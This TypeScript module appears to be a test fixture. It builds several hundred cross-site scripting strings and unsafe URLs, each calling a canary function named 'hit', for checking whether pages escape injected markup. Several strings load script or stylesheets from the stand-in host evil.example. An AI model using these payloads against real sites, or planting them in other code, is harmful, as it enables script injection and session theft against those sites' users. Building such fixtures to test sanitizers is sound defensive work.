/** What an injected script calls; the pages of the attack listen for it. */
export const CANARY = 'hit'

const RUN = `${CANARY}()`

/** Ways to run a script, once a text is read as markup. */
const VECTORS = [
  `<script>${RUN}</script>`,
  `<script src=//evil.example/x.js></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}">`,
  `<img/src/onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<textarea autofocus onfocus=${RUN}></textarea>`,
  `<a href="javascript:${RUN}">کلیک</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">کلیک</a>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<form action="javascript:${RUN}"><button autofocus>x</button></form>`,
  `<marquee onstart=${RUN}>سلام</marquee>`,
  `<video autoplay><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<link rel=stylesheet href=//evil.example/x.css onload=${RUN}>`,
  `<base href="//evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<style>@import '//evil.example/x.css';</style>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `javascript:${RUN}//`,
  `{{constructor.constructor('${RUN}')()}}`,
]

/** What ends the place in which a text is written: an attribute, a comment, a script, a text field, a JSON. */
const BREAKS = [
  '',
  '">',
  "'>",
  '</textarea>',
  '</title>',
  '</script>',
  '-->',
  ']]>',
  '\\u003c/script\\u003e',
  '"}]}</script>',
]

/** Every way after every end: more than three hundred. */
export const XSS_STRINGS: readonly string[] = BREAKS.flatMap((end) =>
  VECTORS.map((vector) => `${end}${vector}`),
)

/** Addresses that run instead of leading somewhere. */
export const XSS_URLS: readonly string[] = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  ` javascript:${RUN}`,
  `javascript://%0a${RUN}`,
  `\u0001javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,${Buffer.from(`<script>${RUN}</script>`).toString('base64')}`,
  `vbscript:${RUN}`,
  `https://shop.example/"onmouseover="${RUN}`,
]
